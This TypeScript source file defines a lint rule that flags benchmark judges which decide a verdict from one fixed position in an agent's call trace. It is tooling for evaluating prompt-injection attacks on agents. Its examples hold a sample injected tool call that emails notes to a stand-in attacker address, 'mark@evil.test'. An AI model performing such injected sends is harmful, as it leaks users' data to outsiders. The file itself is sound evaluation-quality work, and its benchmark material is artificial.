import { HARMLESS_CALL } from '../../contract/index.ts';
import { ts } from '../typescript.js';
import type { CheckRecord, JudgeFacts, PositionRead } from '../flow/facts.ts';
import { negateOp } from '../classify/count.ts';
import { isConstDeclaration, isWithin, short, skipParens } from '../flow/syntax.ts';
import type { TypeFacts } from '../flow/types.ts';
import { defineRule } from './rule.ts';
import { baseWitness, matchNeeded, referenceWitness } from './witness.ts';

/**
 * The verdict rests on the call (or step) at one position the code fixes: `trace[6]`, the first,
 * `at(-1)`, the step an injection was shown at. An agent that does the same thing one call later
 * (after a harmless extra call, a retry, a look at the page) is judged on another call.
 */
export default defineRule({
  id: 'fixed-step-only',
  severity: 'warning',
  messages: {
    reference:
      '`{{text}}` reads the {{collection}} at position {{index}} only, and the reference makes {{calls}}: its run never reaches that position. The task does not fix where the action happens; look for it among all the calls (`some`, `find` by its arguments).',
    shifted:
      '`{{text}}` reads the {{collection}} at position {{index}} only: the same action one call later (after a harmless extra call) is judged on another call. The task does not fix where the action happens; look for it among all the calls (`some`, `find` by its arguments).',
  },
  docs: {
    description:
      'The verdict decided by the call at one fixed position of the run (`trace[k]`, `at(-1)`, the step an injection was shown at), or by the message at one fixed place of the conversation (`messages[k]`, the k-th turn of the agent), where the task does not fix that position.',
    rationale:
      "An agent does not act on a schedule: it may read a file first, retry a failed call, or follow an injection one step after it was shown. A judge that reads `trace[2]`, the step an injection was placed at, `messages[4]` or the agent's second turn judges whatever call (or message) happens to be there: the action done one call later is missed (a utility judge fails a solved task, an attack judge misses an attack that succeeded), and a harmless call at that position decides the verdict. Look for the action among all the calls (`some`, `find` by its arguments), or, where order matters, require it relative to the calls it must follow.",
    invalid: {
      code: "const judge: Judge = ({ trace }) => {\n  const step = executedCalls(trace)[1];\n  return step?.tool === 'send_email' && step.args.to === 'mark@evil.test';\n};",
      kind: 'injection',
      reference: "[call('read_file', { path: '/notes.txt' }), call('send_email', { to: 'mark@evil.test', subject: 'Notes', body: 'see attached' })]",
    },
    valid: {
      code: "const judge: Judge = ({ trace }) => executedCalls(trace).some((c) => c.tool === 'send_email' && c.args.to === 'mark@evil.test');",
      kind: 'injection',
      reference: "[call('read_file', { path: '/notes.txt' }), call('send_email', { to: 'mark@evil.test', subject: 'Notes', body: 'see attached' })]",
    },
    witness:
      "Where the reference makes fewer calls than the position the judge reads, the reference run itself: the action is done, at another position, and the judge fails it. Otherwise the reference run with a call that reads and changes nothing (`read_email` listing the inbox) made before the call at that position (after it, where the position is counted from the end): the same actions, one call later, which a right judge still passes and this one fails. A message stands for the call it belongs to, in the conversation of a run (the user's prompt, then for each call the agent's turn and the tool's answer, then the final answer): `messages[k]` from k = 1 for call (k - 1) / 2, the k-th turn of the agent (or tool message) kept by role for call k. The prompt and the final answer (the last message) are at places the protocol fixes and are not reported.",
  },
  defaultOptions: {},
  check({ facts, task, types, report }) {
    if (facts.style !== 'imperative' || facts.unknowns.length > 0) return;
    const calls = task.reference?.length;
    // No reference calls: nothing says the task is done by calls at all.
    if (!calls || callsBounded(facts)) return;
    const reads = facts.positions
      .filter((p) => fixedIndex(p.node, types) && decides(facts, p, types))
      .flatMap((p) => {
        const call = callRead(facts, p, calls);
        return call === undefined ? [] : [{ ...p, call }];
      })
      .sort((a, b) => a.node.getStart() - b.node.getStart() || a.index - b.index);
    if (reads.length === 0) return;
    // A one-call task: its first (or last) call is its only call.
    if (reads.every((p) => calls <= 1 && p.call === 0)) return;
    // The judge reads the reference's calls position by position: the task's sequence, matched exactly.
    const within = new Set(reads.map((p) => p.call).filter((i) => i >= 0 && i < calls));
    if (within.size > 1) return;
    const read = reads[0];
    // What the judge looks for there: a text a missing call, or the harmless one, does not have.
    if (!checksOtherThanHarmless(facts, read, types)) return;
    const position = read.call;
    const data = { text: short(read.node), collection: read.collection === 'messages' ? 'conversation' : read.collection, index: read.index };
    if (position < 0 || position >= calls) {
      const witness = baseWitness('reference', 'fail');
      if (witness) report(read.node, 'reference', { ...data, calls: calls === 1 ? 'one call' : `${calls} calls` }, witness);
      return;
    }
    // Before the call read (after it, where it is counted from the end): the call read is another.
    const at = read.index >= 0 ? position : position + 1;
    if (read.collection === 'steps') return;
    report(
      read.node,
      'shifted',
      data,
      referenceWitness({ kind: 'insert-call', call: at, inserted: HARMLESS_CALL }, true, task.reference?.[Math.min(at, calls - 1)]?.node),
    );
  },
});

/**
 * The index is fixed in the code: numbers, and constants (`const index = instance.step`), not a
 * loop's counter or a callback's parameter that the analysis happened to know on one pass.
 */
function fixedIndex(node: ts.Expression, types: TypeFacts): boolean {
  const index = ts.isElementAccessExpression(node) ? node.argumentExpression : ts.isCallExpression(node) ? node.arguments[0] : undefined;
  if (!index) return false;
  let fixed = true;
  const visit = (n: ts.Node): void => {
    if (!fixed) return;
    if (ts.isIdentifier(n)) {
      const decl = types.symbolAt(n)?.valueDeclaration;
      if (!decl || !(ts.isVariableDeclaration(decl) && isConstDeclaration(decl))) fixed = false;
      else if (ts.isForOfStatement(decl.parent.parent) || ts.isForInStatement(decl.parent.parent)) fixed = false;
      return;
    }
    if (ts.isPropertyAccessExpression(n)) {
      visit(n.expression);
      return;
    }
    ts.forEachChild(n, visit);
  };
  visit(index);
  return fixed;
}

/**
 * The reference call the element read stands for: the call (or step) at that position of the run,
 * counted from the end where negative, unless the judge filtered the list; a message, in the
 * conversation of a run (the user's prompt, then per call the agent's turn and the tool's answer,
 * then the final answer), by conversationCall. Undefined where it stands for none.
 */
function callRead(facts: JudgeFacts, read: PositionRead, calls: number): number | undefined {
  if (read.collection === 'messages') return conversationCall(facts, read, calls);
  if (ofFilteredList(facts, read)) return undefined;
  return read.index >= 0 ? read.index : calls + read.index;
}

/**
 * `messages[k]` from k = 1 is the turn that made call (k - 1) / 2 or its tool message; the k-th
 * message of the agent's turns or of the tool messages, kept by role (`filter((m) => m.role ===
 * 'assistant')[k]`), that of call k. The prompt and the final answer are at places the protocol
 * fixes (first, last), and so is any message counted from the end: undefined for them.
 */
function conversationCall(facts: JudgeFacts, read: PositionRead, calls: number): number | undefined {
  if (read.index < 0) return undefined;
  if (read.listChecks.length === 0) return read.index >= 1 && read.index <= 2 * calls ? Math.floor((read.index - 1) / 2) : undefined;
  const roles = new Set(read.listChecks.map((id) => roleKept(facts.records.get(id))));
  if (roles.size !== 1 || roles.has(undefined)) return undefined;
  return read.index < calls ? read.index : undefined;
}

/** `m.role === 'assistant'` (or `'tool'`) in a filter of the messages: the role it keeps. */
function roleKept(record: CheckRecord | undefined): string | undefined {
  if (record?.type !== 'compare' || record.actual.paths.size === 0 || ![...record.actual.paths].every((p) => p === 'messages[].role')) return undefined;
  const node = record.node;
  const equal =
    ts.isBinaryExpression(node) &&
    (node.operatorToken.kind === ts.SyntaxKind.EqualsEqualsEqualsToken || node.operatorToken.kind === ts.SyntaxKind.EqualsEqualsToken);
  const role = record.expected.constant?.value;
  return equal && (role === 'assistant' || role === 'tool') ? role : undefined;
}

/** A list the judge filtered (its test decides which calls it holds, beyond whether they ran): its k-th element is the k-th call of a kind. */
function ofFilteredList(facts: JudgeFacts, read: PositionRead): boolean {
  return read.listChecks.some((id) => {
    const record = facts.records.get(id);
    if (!record) return true;
    // Keeping the calls that ran (`executedCalls`) keeps the run's own order of actions.
    if (record.type === 'compare' && record.actual.paths.size > 0 && [...record.actual.paths].every((p) => /^trace\[\]\.status$/.test(p))) return false;
    for (let n: ts.Node | undefined = record.node; n; n = n.parent) {
      if (!ts.isFunctionLike(n)) continue;
      const call = n.parent;
      if (!call || !ts.isCallExpression(call) || !call.arguments.includes(n as ts.Expression)) return false;
      const callee = skipParens(call.expression);
      const method = ts.isPropertyAccessExpression(callee) ? callee.name.text : '';
      return method !== 'map' && method !== 'forEach';
    }
    return false;
  });
}

/** The element read there reaches the verdict: a check the verdict depends on is made on it, or on a variable holding it. */
function decides(facts: JudgeFacts, read: PositionRead, types: TypeFacts): boolean {
  const holder = holderOf(read.node, types);
  for (const id of facts.verdict.recs.keys()) {
    const record = facts.records.get(id);
    if (!record) continue;
    if (isWithin(read.node, record.node)) return true;
    if (holder && record.type === 'compare' && (record.actual.vars.has(holder) || record.expected.vars.has(holder))) return true;
  }
  return false;
}

/** The checks made on the element read compare it with a value the harmless call does not have (a tool name, an argument). */
function checksOtherThanHarmless(facts: JudgeFacts, read: PositionRead, types: TypeFacts): boolean {
  const holder = holderOf(read.node, types);
  for (const id of facts.verdict.recs.keys()) {
    const record = facts.records.get(id);
    if (record?.type !== 'compare') continue;
    if (!isWithin(read.node, record.node) && !(holder && (record.actual.vars.has(holder) || record.expected.vars.has(holder)))) continue;
    const expected = [record.expected.constant?.value, ...(record.expected.constantList ?? [])].filter((v) => typeof v === 'string' && v !== '');
    if (expected.length > 0 && !expected.includes(HARMLESS_CALL.tool) && matchNeeded(facts, record)) return true;
  }
  return false;
}

/** The variable the element is kept in (`const step = trace[1]`). */
function holderOf(node: ts.Node, types: TypeFacts): ts.Symbol | undefined {
  let n = node;
  while (n.parent && (ts.isParenthesizedExpression(n.parent) || ts.isNonNullExpression(n.parent) || ts.isAsExpression(n.parent))) n = n.parent;
  const decl = n.parent;
  return decl && ts.isVariableDeclaration(decl) && decl.initializer === n && ts.isIdentifier(decl.name) ? types.symbolAt(decl.name) : undefined;
}

/**
 * The judge bounds the number of calls (`trace.length !== 1` fails, `calls.length === answers.length`):
 * the run's length is the task's, so where each call stands is too.
 */
function callsBounded(facts: JudgeFacts): boolean {
  for (const [id, sign] of facts.verdict.recs) {
    const record = facts.records.get(id);
    if (record?.type !== 'count' || ![...record.of].some((p) => p === 'trace' || p === 'steps' || p === 'messages')) continue;
    const needed = sign === 1 ? record.op : sign === -1 ? negateOp(record.op) : undefined;
    if (needed === '===' || needed === '<=' || needed === '<') return true;
  }
  return false;
}
